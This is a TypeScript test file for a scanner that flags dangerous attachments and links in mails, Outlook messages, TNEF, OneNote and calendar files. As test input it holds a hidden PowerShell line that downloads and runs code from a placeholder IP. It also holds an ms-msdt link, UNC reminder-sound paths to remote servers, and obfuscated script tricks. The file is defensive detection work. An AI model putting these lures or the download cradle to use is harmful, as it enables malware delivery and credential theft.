/** Files attached to mails, messages of Outlook and notes. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeOle } from '#inspect/testing/ole-writer.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

function accusations(bytes: Uint8Array): string[] {
  const { findings } = inspect(bytes)
  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
}
const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])

const mail = (name: string, content: string, encoding = 'base64'): Uint8Array =>
  Buffer.from(
    [
      'From: a@example.com',
      'To: b@example.com',
      'Subject: a',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="x"',
      '',
      '--x',
      'Content-Type: text/plain',
      '',
      'See the attached file.',
      '--x',
      `Content-Type: application/octet-stream; name=${name}`,
      ...(encoding === '' ? [] : [`Content-Transfer-Encoding: ${encoding}`]),
      'Content-Disposition: attachment;',
      ` filename=${name}`,
      '',
      encoding === 'base64' ? Buffer.from(content).toString('base64') : content,
      '--x--',
      '',
    ].join('\r\n'),
  )

suite('a mail', () => {
  test('with a script', () => has(mail('"invoice.js"', 'a = 1'), 'Mail.ProgramAttachment'))
  test('with a script that is not encoded', () => has(mail('"invoice.vbs"', 'a = 1', ''), 'Mail.ProgramAttachment'))
  test('with a script that Windows opens in an editor is judged by its content', () => {
    const names = ['"backup.ps1"', '"=?utf-8?Q?backup=2Eps1?="']
    for (const name of names)
      for (const encoding of ['base64', '', '7bit', '7-bit'])
        assert.deepEqual(accusations(mail(name, 'Copy-Item D:\\Data E:\\Backup -Recurse', encoding)), [
          'Mail.ScriptAttachment',
        ])
    const hidden = 'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a\')"'
    for (const encoding of ['base64', '', '7bit', '7-bit']) {
      const { findings } = inspect(mail('"backup.ps1"', hidden, encoding))
      assert.ok(findings.some(({ severity, path }) => severity === 'malicious' && path.includes('backup.ps1')))
    }
    has(mail('"invoice.pdf.ps1"', 'a'), 'Mail.ProgramAttachment')
  })
  test('with a script that does what people do on purpose is suspicious', () => {
    const map = 'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "H:", "\\\\fs01\\home"\r\n'
    const copy = '@echo off\r\nrobocopy D:\\Data \\\\nas01\\backup /MIR\r\n'
    const settings =
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"path"="C:\\\\a"\r\n'
    for (const encoding of ['base64', '']) {
      assert.deepEqual(accusations(mail('"map.vbs"', map, encoding)), ['Mail.ScriptAttachment'])
      assert.deepEqual(accusations(mail('"backup.bat"', copy, encoding)), ['Mail.ScriptAttachment'])
      assert.deepEqual(accusations(mail('"menu.js"', 'var open = 1;', encoding)), ['Mail.ScriptAttachment'])
      assert.deepEqual(accusations(mail('"proxy.reg"', settings, encoding)), ['Mail.ScriptAttachment'])
      has(mail('"invoice.vbs"', map, encoding), 'Mail.ProgramAttachment')
      has(mail('"map.vbs"', `${map}Execute(StrReverse("abcdefgh"))`, encoding), 'Mail.ProgramAttachment')
      has(mail('"backup.bat"', `${copy}set a=xyz\r\n%a:~0,1%%a:~1,1%`, encoding), 'Mail.ProgramAttachment')
    }
  })
  test('with an encoded name', () => has(mail(`"=?utf-8?B?${btoa('invoice.hta')}?="`, 'a'), 'Mail.ProgramAttachment'))
  test('with a percent-encoded name', () => has(mail("utf-8''invoice%2Ejs", 'a'), 'Mail.ProgramAttachment'))
  test('with a misleading name', () => has(mail('"invoice.pdf.iso"', 'a'), 'Name.DoubleExtension'))
  test('with documents is harmless', () => {
    for (const name of ['"invoice.pdf"', 'table.csv', '"=?utf-8?Q?R=C3=A9sum=C3=A9.docx?="', '"v1.2.final.txt"'])
      harmless(mail(name, 'text'))
  })
  test('that mentions a program is harmless', () => {
    harmless(
      Buffer.from(
        'From: a@example.com\r\nTo: b@example.com\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGet it from https://example.com/?filename=setup.exe\r\n',
      ),
    )
  })
})

const wide = (text: string) => Buffer.from(text, 'utf16le')

suite('a message of Outlook', () => {
  /** Streams in storages of their own are written as paths. */
  const message = (parts: Record<string, Uint8Array>) =>
    writeOle({
      storages: ['__attach_version1.0_', '__nameid_version1.0'],
      streams: { '__properties_version1.0': Buffer.alloc(32), ...parts },
    })
  const attached = (name: string, data: string) =>
    message({
      '__attach_version1.0_/__substg1.0_3707001F': wide(name),
      '__attach_version1.0_/__substg1.0_37010102': Buffer.from(data),
    })
  const reminder = (sound: string, id = 0x851f) => {
    const mapping = Buffer.alloc(16)
    mapping.writeUInt32LE(0x8501, 0)
    mapping.writeUInt32LE(id, 8)
    mapping.writeUInt16LE(3, 14)
    return message({ '__nameid_version1.0/__substg1.0_00030102': mapping, '__substg1.0_8003001F': wide(sound) })
  }
  test('with a script', () => has(attached('invoice.js', 'a = 1'), 'Mail.ProgramAttachment'))
  test('with a document', () => harmless(attached('invoice.txt', 'text')))
  test('with a sound on a server', () => has(reminder('\\\\203.0.113.5\\a.wav'), 'Mail.ReminderShare'))
  test('with a sound on a server by WebDAV', () =>
    has(reminder('\\\\files.example@80\\a\\b.wav\0'), 'Mail.ReminderShare'))
  test('with a sound of its own', () => harmless(reminder('reminder.wav')))
  test('with another property that names a server', () => harmless(reminder('\\\\203.0.113.5\\a.wav', 0x8520)))
})

suite('an attachment in TNEF', () => {
  const attribute = (level: number, id: number, data: Uint8Array): Buffer => {
    const head = Buffer.alloc(9)
    head.writeUInt8(level, 0)
    head.writeUInt32LE(id, 1)
    head.writeUInt32LE(data.length, 5)
    return Buffer.concat([head, data, Buffer.alloc(2)])
  }
  const winmail = (name: string, data: string, isTitleLast = false): Buffer => {
    const title = attribute(2, 0x00018010, Buffer.from(`${name}\0`))
    const content = attribute(2, 0x0006800f, Buffer.from(data))
    const parts = isTitleLast ? [content, title] : [title, content]
    return Buffer.concat([
      Buffer.from('789f3e220100', 'hex'),
      attribute(1, 0x00089006, Buffer.alloc(4)),
      attribute(2, 0x00069002, Buffer.alloc(14)),
      ...parts,
    ])
  }
  const sent = (bytes: Uint8Array) =>
    mail('"winmail.dat"', '')
      .toString()
      .replace('\r\n\r\n\r\n--x--', `\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n--x--`)
  const inMail = (bytes: Uint8Array) => Buffer.from(sent(bytes))
  test('with a script', () => {
    has(inMail(winmail('invoice.js', 'a = 1')), 'Mail.ProgramAttachment')
    has(inMail(winmail('invoice.js', 'a = 1', true)), 'Mail.ProgramAttachment')
  })
  test('is unpacked', () => {
    const { findings } = inspect(inMail(winmail('page.htm', '<html><a href="ms-msdt:/id">a</a></html>')))
    assert.ok(findings.some(({ id, path }) => id === 'Docvet.Link.Troubleshooter' && path.includes('page.htm')))
  })
  test('with a document is clean', () => {
    const bytes = inMail(winmail('invoice.txt', 'text'))
    harmless(bytes)
    assert.equal(inspect(bytes).obstacle, null)
  })
  test('that is cut off is damaged', () =>
    assert.equal(inspect(inMail(winmail('a.txt', 'text').subarray(0, -5))).obstacle?.reason, 'damaged'))
})

suite('a note', () => {
  const note = (data: string, name = ''): Buffer => {
    const length = Buffer.alloc(20)
    length.writeUInt32LE(data.length)
    return Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      wide(`${name}\0`),
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      length,
      Buffer.from(data, 'latin1'),
      Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex'),
    ])
  }
  test('with a file that the name makes a script', () => has(note('a = 1', 'open.hta'), 'OneNote.Program'))
  test('with a log, and a text that names a program, is harmless', () =>
    harmless(note('09:00:02 ERROR cmd.exe returned 1', 'Customer reports an error of setup.exe')))
  test('with an HTML application', () => has(note('<html><hta:application id=a></html>'), 'OneNote.Program'))
  test('with a picture', () => harmless(note('\x89PNG\r\n\x1a\n\0\0', 'a.png')))
  test('with a text', () => harmless(note('text', 'a.txt')))
})

suite('a calendar', () => {
  const calendar = (...lines: string[]): Uint8Array =>
    Buffer.from(
      ['BEGIN:VCALENDAR', 'VERSION:2.0', 'BEGIN:VEVENT', ...lines, 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n'),
    )
  const binary = (name: string, data: string): string =>
    `ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=${name}:${Buffer.from(data).toString('base64')}`
  const folded = (line: string): string => line.replace(/.{20}/g, '$&\r\n ')
  test('with a script', () => has(calendar(binary('a.js', 'a = 1')), 'Mail.ProgramAttachment'))
  test('with a script in folded lines', () => has(calendar(folded(binary('"a.hta"', 'a'))), 'Mail.ProgramAttachment'))
  test('with a file on a server', () => has(calendar('ATTACH:file://192.0.2.1/a/b.docx'), 'Link.FileServer'))
  test('with a sound on a server', () =>
    has(
      calendar('BEGIN:VALARM', 'ACTION:AUDIO', 'ATTACH;FMTTYPE=audio/basic:\\\\192.0.2.1\\a\\b.wav', 'END:VALARM'),
      'Mail.ReminderShare',
    ))
  test('with a program as its alarm', () =>
    has(
      calendar('BEGIN:VALARM', 'ACTION:PROCEDURE', 'ATTACH:https://a.example/b.exe', 'END:VALARM'),
      'Mail.ProgramAttachment',
    ))
  test('with documents and links is harmless', () =>
    harmless(
      calendar(binary('a.txt', 'text'), 'ATTACH:https://a.example/agenda.pdf', 'URL:https://a.example/', 'SUMMARY:a'),
    ))
})

suite('properties in a TNEF attachment', () => {
  const tnef = (sound: string, isWide: boolean): Buffer => {
    const text = Buffer.from(`${sound}\0`, isWide ? 'utf16le' : 'latin1')
    const property = Buffer.alloc(36)
    property.writeUInt16LE(isWide ? 0x1f : 0x1e, 0)
    property.writeUInt16LE(0x8002, 2)
    Buffer.from('0820060000000000c000000000000046000000001f850000', 'hex').copy(property, 4)
    property.writeUInt32LE(1, 28)
    property.writeUInt32LE(text.length, 32)
    const data = Buffer.concat([Buffer.from([1, 0, 0, 0]), property, text])
    const head = Buffer.alloc(9)
    head[0] = 1
    head.writeUInt32LE(0x00069003, 1)
    head.writeUInt32LE(data.length, 5)
    return Buffer.concat([Buffer.from('789f3e220100', 'hex'), head, data, Buffer.alloc(2)])
  }
  const attached = (bytes: Buffer): Uint8Array => mail('winmail.dat', bytes.toString('latin1'))
  const raw = (bytes: Buffer): Uint8Array =>
    Buffer.from(
      Buffer.from(attached(Buffer.alloc(0)))
        .toString('latin1')
        .replace('\r\n\r\n\r\n--x--', `\r\n\r\n${bytes.toString('base64')}\r\n--x--`),
    )
  test('with a reminder on a server', () => {
    has(raw(tnef('\\\\192.0.2.1@80\\a\\b.wav', true)), 'Mail.ReminderShare')
    has(raw(tnef('\\\\192.0.2.1\\a.wav', false)), 'Mail.ReminderShare')
  })
  test('with a sound of Windows are harmless', () => harmless(raw(tnef('reminder.wav', true))))
})

test('a compiled help file is suspicious in an archive under any name, and malicious in a mail by its name', () => {
  const help = Buffer.concat([Buffer.from('ITSF\x03\0\0\0', 'latin1'), Buffer.alloc(500)])
  for (const name of ['manual.chm', 'manual.dat']) {
    const archive = writeZip([
      { name, data: help },
      { name: 'a.txt', data: 'text' },
    ])
    has(archive, 'Script.CompiledHelp')
    assert.equal(inspect(archive).obstacle?.reason, 'too_complex')
  }
  has(mail('"manual.chm"', help.toString('latin1')), 'Mail.ProgramAttachment')
})

suite('a message', () => {
  const message = (header: string, body: string): Uint8Array =>
    Buffer.from(`From: a@example.com\r\n${header}Content-Type: text/html\r\n\r\n${body}\r\n`)
  const link = (target: string): Uint8Array => message('', `<html><body><a href="${target}">Open</a></body></html>`)
  test('with a link to an item in a file on the internet', () => {
    has(link('file:///\\\\198.51.100.14\\a\\plan.rtf!open'), 'Link.Moniker')
    has(link('file:///\\\\files.example\\a\\plan.docx!'), 'Link.Moniker')
  })
  test('with a link to a file of the company', () => harmless(link('file:///\\\\files\\a\\plan.rtf')))
  test('that shares a calendar', () => {
    has(message('x-sharing-config-url: \\\\198.51.100.99\\a.ics\r\n', 'text'), 'Mail.SharingServer')
    harmless(message('x-sharing-config-url: https://example.com/a.ics\r\n', 'text'))
  })
})
